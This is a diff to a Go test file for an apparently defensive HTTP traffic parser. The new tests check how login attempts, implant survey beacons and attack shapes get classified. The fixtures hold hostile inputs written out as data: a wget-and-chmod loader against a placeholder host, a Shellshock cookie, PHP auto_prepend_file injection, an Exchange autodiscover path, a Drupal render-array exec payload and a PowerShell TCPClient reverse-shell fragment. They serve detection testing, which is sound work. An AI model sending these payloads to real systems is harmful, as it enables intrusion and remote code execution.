@@ -120,7 +120,7 @@ func TestHTTPRecord(t *testing.T) {
 		UserAgent: "probe /1", Referrer: "from.example", Server: "craft/1", Auth: "bearer", Status: 200,
 		Type: [2]string{"application/json", "text/html"}, Body: [2]int64{4, 6}, Class: [2]string{"json", "exe-pe"},
 		Target: 34, TargetEntropy: entropy([]byte("/orders/4711/label.pdf?token=x&y=2#z"[:34]), -1),
-		Entropy: entropy([]byte(`{"a"`), -1), Printable: 1, Checksum: -1, looked: true,
+		Entropy: entropy([]byte(`{"a"`), -1), Printable: 1, Checksum: -1, Cookie: true, looked: true,
 	}}
 	if d := cmp.Diff(want, got, same); d != "" {
 		t.Errorf("-want +got:\n%s", d)
@@ -190,16 +190,71 @@ func TestHTTPLogins(t *testing.T) {
 			[]string{form + "37\r\n\r\nuser[email]=a%40b.example&user[pwd]=x", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
 			[]*event.Login{{Protocol: "http", Method: "form", User: "a@b.example", Reason: "200", Clear: true, Attempt: 1}},
 		},
-		"a refused form":    {[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n"}, []*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Failure, Reason: "403", Clear: true, Attempt: 1}}},
-		"a search form":     {[]string{form + "9\r\n\r\nname=a&q=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
-		"an empty password": {[]string{form + "12\r\n\r\nname=a&pass=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
-		"broken base64":     {[]string{"GET /a HTTP/1.1\r\nAuthorization: Basic ###\r\n\r\n"}, nil},
-		"without an answer": {[]string{basic}, []*event.Login{{Protocol: "http", Method: "basic", User: "ann", Clear: true, Attempt: 1}}},
+		"a refused form": {[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n"}, []*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Failure, Reason: "403", Clear: true, Attempt: 1}}},
+		"a form that leads back": {
+			[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 302 Go\r\nLocation: /login?error=1\r\nSet-Cookie: s=1\r\nContent-Length: 0\r\n\r\n"},
+			[]*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Failure, Reason: "302", Clear: true, Attempt: 1}},
+		},
+		"a form that leads on, with a session": {
+			[]string{form + "12\r\n\r\nlog=a&pass=b", "<HTTP/1.1 303 Go\r\nLocation: /start\r\nSet-Cookie: s=1\r\nContent-Length: 0\r\n\r\n"},
+			[]*event.Login{{Protocol: "http", Method: "form", User: "a", Outcome: event.Success, Reason: "303", Clear: true, Attempt: 1}},
+		},
+		"JSON, refused and accepted": {
+			[]string{"POST /api HTTP/1.1\r\nContent-Length: 44\r\n\r\n" + `{"Username": "an\"n", "password" : "hidden"}`, "<HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n",
+				"POST /api HTTP/1.1\r\nContent-Length: 38\r\n\r\n" + `{"a":{"email":"ann","n":1,"pass":"x"}}`, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"},
+			[]*event.Login{{Protocol: "http", Method: "form", User: `an\"n`, Outcome: event.Failure, Reason: "401", Clear: true, Attempt: 1},
+				{Protocol: "http", Method: "form", User: "ann", Outcome: event.Success, Reason: "200", Clear: true, Attempt: 2}},
+		},
+		"JSON without a password": {[]string{"POST /api HTTP/1.1\r\nContent-Length: 27\r\n\r\n" + `{"user":"ann","password":0}`, "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
+		"a search form":           {[]string{form + "9\r\n\r\nname=a&q=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
+		"an empty password":       {[]string{form + "12\r\n\r\nname=a&pass=", "<HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"}, nil},
+		"broken base64":           {[]string{"GET /a HTTP/1.1\r\nAuthorization: Basic ###\r\n\r\n"}, nil},
+		"without an answer":       {[]string{basic}, []*event.Login{{Protocol: "http", Method: "basic", User: "ann", Clear: true, Attempt: 1}}},
 	} {
 		got := hear[*event.Login](&httpParser{}, talk(c.talk...))
 		if d := cmp.Diff(c.want, got); d != "" {
 			t.Errorf("%s (-want +got):\n%s", name, d)
 		}
+	}
+}
+
+// How implants describe the machine that they are on, and what only looks like it.
+func TestHTTPSurveys(t *testing.T) {
+	for request, want := range map[string]string{
+		"GET /a?hwid=1&os=2 HTTP/1.1\r\n\r\n":                                    "fields",
+		"GET /a?os=10&ver=2&user=x HTTP/1.1\r\n\r\n":                             "",
+		"GET /a?hwid=1 HTTP/1.1\r\n\r\n":                                         "",
+		"POST /a HTTP/1.1\r\nUser-Agent: NAME|PC|u|Windows 10|plus|no\r\n\r\n":   "list",
+		"POST /a HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\n\r\n":  "",
+		"GET / HTTP/1.1\r\nCookie: a=1:2; _u=4445534B544F50:75736572:41\r\n\r\n": "list",
+		"GET / HTTP/1.1\r\nCookie: id=9f86d081884c7d65:9f86d081884c7d65\r\n\r\n": "",
+		"POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 55\r\n\r\n--x\r\nContent-Disposition: form-data; name=\"proclist\"\r\n\r\n": "list",
+	} {
+		if got := hearHTTP(request); len(got) != 1 || got[0].Survey != want {
+			t.Errorf("%q: %+v", request, got)
+		}
+	}
+	for body, want := range map[string]bool{
+		"aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxkLCBoZWxsbw==": true, "a=aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxkLCBoZWxsb%2Bw%3D": true,
+		"0123456789abcdef0123456789abcdef0123": true, "user=ann&page=two&order=asc&filter=none": false, "hello": false,
+		"onlylettersonlylettersonlylettersonly": false, "This is a sentence of 10 words or so.": false,
+	} {
+		if got := isCoded([]byte(body)); got != want {
+			t.Errorf("%q is coded: %v", body, got)
+		}
+	}
+	for body, want := range map[string]string{
+		"<a:Action>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</a:Action>":                                                    "command",
+		"<w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI><a:Action>http://x/transfer/Create</a:Action>": "create",
+		"<a:Action>http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate</a:Action>":                                                        "",
+	} {
+		if got := wsmanAction([]byte(body)); got != want {
+			t.Errorf("%q: %q", body, got)
+		}
+	}
+	got := hearHTTP("GET /a HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 46\r\n\r\n$c = New-Object Net.Sockets.TCPClient('a', 80)")
+	if len(got) != 1 || got[0].Class[event.Server] != "script" {
+		t.Errorf("a script: %+v", got)
 	}
 }
 
@@ -245,6 +300,10 @@ func TestHTTPAttackShapes(t *testing.T) {
 		"php of the settings":  {"POST /?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1\r\n\r\n", []string{"code"}},
 		"loader":               {"GET /shell?cd+/tmp;wget+http://x/a;chmod+777+a HTTP/1.1\r\n\r\n", []string{"cmd"}},
 		"nothing":              {"GET /select/union?sleep=1 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 WindowsPowerShell/5.1\r\n\r\n", nil},
+		"shellshock, cookie":   {"GET / HTTP/1.1\r\nCookie: () { :;}; x\r\n\r\n", []string{"cmd"}},
+		"exchange":             {"POST /autodiscover/autodiscover.json?@a.example/mapi/nspi/ HTTP/1.1\r\n\r\n", []string{"code"}},
+		"render array":         {"POST /user HTTP/1.1\r\nContent-Length: 27\r\n\r\nmail[%23post_render][]=exec", []string{"code"}},
+		"exchange by itself":   {"POST /autodiscover/autodiscover.json?Email=a@b.example HTTP/1.1\r\n\r\n", nil},
 		"what a cookie may be": {"GET / HTTP/1.1\r\nCookie: a=../b\r\n\r\n", nil},
 	} {
 		got := hearHTTP(c.request)
